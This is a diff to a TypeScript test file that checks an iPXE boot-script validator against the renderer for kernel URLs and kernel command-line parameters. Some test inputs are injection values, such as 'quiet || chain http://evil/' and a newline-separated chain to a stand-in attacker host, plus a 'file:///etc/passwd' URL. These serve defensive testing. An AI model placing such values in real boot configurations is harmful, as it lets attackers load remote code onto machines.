@@ -1,4 +1,5 @@
 import {
+  ipxeValueProblem,
   failureUrl,
   ipxeCmdline,
   ipxeEchoText,
@@ -191,5 +192,53 @@ describe('helpers', () => {
   it('ipxeEchoText cuts long text', () => {
     expect(ipxeEchoText('x'.repeat(300), 20)).toBe(`${'x'.repeat(17)}...`);
     expect(ipxeEchoText(undefined)).toBe('');
+  });
+});
+
+describe("ipxeValueProblem (write-time check with the renderer's rules)", () => {
+  const base = { mac: report.mac, hostname: 'h', kernel: 'http://10.0.0.1/k', report };
+  const renders = (patch: Record<string, unknown>) => {
+    try {
+      renderKernelScript({ ...base, ...patch });
+      return true;
+    } catch {
+      return false;
+    }
+  };
+
+  it.each([
+    'http://10.0.0.1/vmlinuz',
+    'tftp://10.0.0.1/k',
+    'https://boot.example/k?x=1',
+    'file:///etc/passwd',
+    '/srv/vmlinuz',
+    'http://x/${net0/mac}',
+    'http://x/a b',
+    'http://x/"i"',
+    'http://x/\u0000',
+  ])('agrees with the renderer on the kernel URL %j', (url) => {
+    const problem = ipxeValueProblem('url', url, 'bootKernel');
+    expect(problem === null).toBe(renders({ kernel: url }));
+    if (problem) expect(problem).toMatch(/^bootKernel: /);
+  });
+
+  it.each([
+    'quiet splash',
+    'console=ttyS0,115200   quiet',
+    'quiet || chain http://evil/',
+    'quiet ; x',
+    'root=${root}',
+    'quiet\nchain http://evil/',
+    'a #comment',
+    "x='y'",
+    'x=\\y',
+    ':label',
+    'a\u0000b',
+    'é',
+    'x'.repeat(4097),
+  ])('agrees with the renderer on the command line %j', (cmdline) => {
+    const problem = ipxeValueProblem('cmdline', cmdline, 'customBootParams');
+    expect(problem === null).toBe(renders({ extraCmdline: cmdline }));
+    if (problem) expect(problem).toMatch(/^customBootParams: /);
   });
 });
